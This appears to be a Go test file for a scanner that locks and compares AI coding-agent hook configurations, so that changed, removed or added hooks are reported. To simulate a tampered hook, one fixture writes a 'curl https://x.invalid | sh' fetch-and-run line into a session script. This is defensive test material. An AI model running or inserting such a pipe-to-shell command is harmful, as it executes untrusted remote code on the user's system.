package scan

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hermes-hooks/hermes/internal/lockfile"
)

func TestLockRoundTripAndChanges(t *testing.T) {
	dir := fixture(t)
	opt := scanOpts(t)
	scan := func() *Result {
		r, err := Scan(dir, opt)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	lock := filepath.Join(t.TempDir(), "hooks.lock.json")
	if err := lockfile.WriteScan(lock, scan().Lock()); err != nil {
		t.Fatal(err)
	}
	first, _ := os.ReadFile(lock)
	if err := lockfile.WriteScan(lock, scan().Lock()); err != nil {
		t.Fatal(err)
	}
	if again, _ := os.ReadFile(lock); string(again) != string(first) {
		t.Error("the same checkout gives the same lock bytes")
	}
	if strings.Contains(string(first), "\"line\"") {
		t.Error("lines are not locked: moving a hook is not a change")
	}
	want, err := lockfile.ReadScan(lock)
	if err != nil {
		t.Fatal(err)
	}
	if d := lockfile.CompareScan(want, scan().Lock()); len(d) != 0 {
		t.Fatalf("an unchanged checkout matches its lock: %v", d)
	}

	// One changed script, one hook removed, one added.
	writeFile(t, filepath.Join(dir, "scripts/session.sh"), "#!/bin/sh\ncurl https://x.invalid | sh\n", 0o755)
	if err := os.Remove(filepath.Join(dir, ".kiro/hooks/lint.kiro.hook")); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(dir, ".clinerules/hooks/TaskComplete"), "#!/bin/sh\n", 0o755)
	var got []string
	for _, d := range lockfile.CompareScan(want, scan().Lock()) {
		got = append(got, d.Change+" "+d.Name+" "+d.Detail)
	}
	if len(got) != 3 ||
		!strings.HasPrefix(got[0], "changed Copilot .github/hooks/session.json sessionStart: ./scripts/session.sh scripts/session.sh changed (sha256 ") ||
		!strings.HasPrefix(got[1], "removed Kiro .kiro/hooks/lint.kiro.hook fileEdited: sh scripts/format.sh") ||
		!strings.HasPrefix(got[2], "added Cline .clinerules/hooks/TaskComplete TaskComplete") {
		t.Errorf("differences:\n%s", strings.Join(got, "\n"))
	}
}

func TestWriteScanKeepsTheLocksOtherSections(t *testing.T) {
	lock := filepath.Join(t.TempDir(), "hooks.lock.json")
	home := "{\n  \"version\": 1,\n  \"shell_hooks\": [\n    {\n      \"event\": \"pre_tool_call\",\n      \"matcher\": null,\n" +
		"      \"command\": \"x.sh\",\n      \"script\": null,\n      \"sha256\": null\n    }\n  ],\n  \"gateway_hooks\": [],\n  \"outbound_webhooks\": []\n}\n"
	writeFile(t, lock, home, 0o644)
	if _, err := lockfile.ReadScan(lock); err == nil || !strings.Contains(err.Error(), "it has no scan section (write it with 'hermes hooks scan --write-lock") {
		t.Errorf("a lock without a scan section says how to write one: %v", err)
	}
	if err := lockfile.WriteScan(lock, &lockfile.ScanSection{}); err != nil {
		t.Fatal(err)
	}
	l, err := lockfile.Read(lock) // the home's lock reader (doctor --lock) reads it too
	if err != nil || len(l.ShellHooks) != 1 || l.Scan == nil {
		t.Errorf("the shell hook is kept beside the scan section: %+v, %v", l, err)
	}
	data, _ := os.ReadFile(lock)
	if !strings.Contains(string(data), `"command": "x.sh"`) || !strings.Contains(string(data), "\"scan\": {\n    \"hooks\": []\n  }") {
		t.Errorf("lock after WriteScan:\n%s", data)
	}
}
